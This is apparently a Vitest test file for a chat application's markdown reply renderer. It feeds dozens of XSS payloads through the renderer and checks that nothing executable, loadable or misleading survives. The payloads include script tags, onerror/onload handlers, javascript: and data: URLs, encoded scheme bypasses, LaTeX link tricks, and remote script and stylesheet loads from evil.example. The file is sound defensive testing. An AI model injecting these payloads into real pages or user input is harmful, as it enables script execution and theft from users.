import { cleanup, render, screen } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { ReplyText } from '@renderer/features/chat/markdown/reply-text'

afterEach(cleanup)

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://example.org" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.org/1)',
  '[x](//evil.example)',
  '[x](#in-page)',
  '[x](/settings)',
  '[x](http://plain.example)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '[x](https://example.org "onmouseover=alert(1)")',
  '[x](https://example.org/"onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x" onerror="alert(1)](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |',
  '> <script>alert(1)</script>',
  '- <svg onload=alert(1)>',
  '# <script>alert(1)</script>',
  'text[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\url{javascript:alert(1)}$$',
  '\\[\\includegraphics{https://evil.example/x.png}\\]',
  '\\(\\htmlData{onclick=alert(1)}{x}\\)',
  '$<img src=x onerror=alert(1)>$',
  '$$\n<script>alert(1)</script>\n$$',
  '$x" onmouseover="alert(1)$',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
]

const FORBIDDEN =
  'script, style, iframe, object, embed, img, svg:not(.lucide), video, audio, link, meta, base, form, input, textarea, template, math, details'

function dangersIn(root: Element): readonly string[] {
  const elements = [...root.querySelectorAll('*')]
  const handlers = elements.flatMap((element) =>
    element
      .getAttributeNames()
      .filter((name) => name.startsWith('on') || name === 'style' || name === 'srcdoc'),
  )
  const links = elements
    .flatMap((element) =>
      ['href', 'src', 'action', 'data', 'xlink:href'].map((name) => element.getAttribute(name)),
    )
    .filter((address) => address !== null && !/^(https:|mailto:)/.test(address))
  return [
    ...handlers,
    ...links.map(String),
    ...[...root.querySelectorAll(FORBIDDEN)].map((element) => element.tagName),
  ]
}

describe('a reply', () => {
  it.each(ATTACKS)('renders nothing that runs, loads or leads astray: %j', (text) => {
    for (const isLive of [true, false]) {
      const { container, unmount } = render(
        <ReplyText text={`before ${text}\n\n${text}\n\nafter`} isLive={isLive} />,
      )
      expect(dangersIn(container)).toEqual([])
      expect(container.textContent).toContain('after')
      unmount()
    }
  })

  it('opens https and mailto links outside, without telling where from', () => {
    render(
      <ReplyText
        text="[docs](https://example.org/a) [mail](mailto:a@example.org)"
        isLive={false}
      />,
    )
    const links = screen.getAllByRole('link')
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://example.org/a',
      'mailto:a@example.org',
    ])
    expect(links.map((link) => [link.getAttribute('target'), link.getAttribute('rel')])).toEqual([
      ['_blank', 'noreferrer noopener'],
      ['_blank', 'noreferrer noopener'],
    ])
  })

  it('shows a picture as a link with its description', () => {
    render(<ReplyText text="![A harbour](https://example.org/harbour.png)" isLive={false} />)
    expect(screen.getByRole('link', { name: 'A harbour' }).getAttribute('href')).toBe(
      'https://example.org/harbour.png',
    )
  })

  it('shows HTML as the text it is', () => {
    const { container } = render(<ReplyText text="<b>bold</b>" isLive={false} />)
    expect(container.textContent).toBe('<b>bold</b>')
  })

  it('resolves references over the whole text once it is done', () => {
    const text = 'See [docs][1].\n\nMore.\n\n[1]: https://example.org/'
    const { rerender } = render(<ReplyText text={text} isLive />)
    rerender(<ReplyText text={text} isLive={false} />)
    expect(screen.getByRole('link', { name: 'docs' }).getAttribute('href')).toBe(
      'https://example.org/',
    )
  })

  it('keeps the elements of finished blocks while more comes, and when it is done', () => {
    const { container, rerender } = render(
      <ReplyText text={'One.\n\n```js\nlet a\n```\n\nTw'} isLive />,
    )
    const [first, code] = [container.querySelector('p'), container.querySelector('pre')]
    rerender(<ReplyText text={'One.\n\n```js\nlet a\n```\n\nTwo.\n\nThree.'} isLive />)
    rerender(<ReplyText text={'One.\n\n```js\nlet a\n```\n\nTwo.\n\nThree.'} isLive={false} />)
    expect([container.querySelector('p'), container.querySelector('pre')]).toEqual([first, code])
    expect(first?.isConnected && code?.isConnected).toBe(true)
  })
})
